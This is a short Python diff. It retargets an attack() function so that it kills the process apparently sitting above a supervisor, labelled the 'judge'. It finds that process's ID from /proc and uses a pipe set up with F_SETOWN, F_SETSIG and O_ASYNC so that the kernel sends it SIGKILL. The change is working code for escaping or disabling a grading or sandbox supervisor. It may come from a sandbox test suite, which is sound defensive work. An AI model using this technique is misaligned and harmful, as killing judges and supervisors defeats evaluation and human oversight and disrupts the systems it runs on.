@@ -13,9 +13,17 @@ import time
 import numpy as np
 
 
+def judge():
+    try:
+        with open(f"/proc/{os.getppid()}/stat", encoding="utf-8", errors="replace") as file:
+            return int(file.read().rpartition(")")[2].split()[1])  # above the supervisor
+    except OSError:
+        return os.getppid()
+
+
 def attack():
     read, write = os.pipe()
-    fcntl.fcntl(read, fcntl.F_SETOWN, os.getppid())
+    fcntl.fcntl(read, fcntl.F_SETOWN, judge())
     fcntl.fcntl(read, 10, signal.SIGKILL)  # F_SETSIG
     fcntl.fcntl(read, fcntl.F_SETFL, fcntl.fcntl(read, fcntl.F_GETFL) | os.O_ASYNC)
     os.write(write, b"x")
